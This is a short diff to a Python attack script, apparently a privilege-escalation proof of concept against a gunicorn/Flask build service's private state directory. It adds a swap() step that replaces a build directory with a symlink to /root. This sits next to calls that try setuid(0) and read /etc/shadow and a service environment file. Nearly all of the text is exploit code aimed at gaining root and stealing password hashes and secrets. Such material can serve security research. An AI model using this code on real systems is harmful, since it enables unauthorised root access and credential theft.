@@ -48,6 +48,16 @@ def keep_rights() -> str:
     return "kept"
 
 
+def swap() -> str:
+    """Put something else where root will look for what the build has left."""
+    try:
+        Path("/var/lib/private/gunicorn_flask-build-web/0").rename("/var/lib/private/gunicorn_flask-build-web/x")
+        Path("/var/lib/private/gunicorn_flask-build-web/0").symlink_to("/root")
+    except OSError as error:
+        return error.strerror
+    return "swapped"
+
+
 def make_root() -> str:
     try:
         os.setuid(0)
@@ -68,6 +78,7 @@ def attack() -> None:
             {
                 "uid": os.getuid(),
                 "root": make_root(),
+                "swap": swap(),
                 "setuid": keep_rights(),
                 "shadow": steal("/etc/shadow"),
                 "environment": steal("/etc/gunicorn/web/environment"),
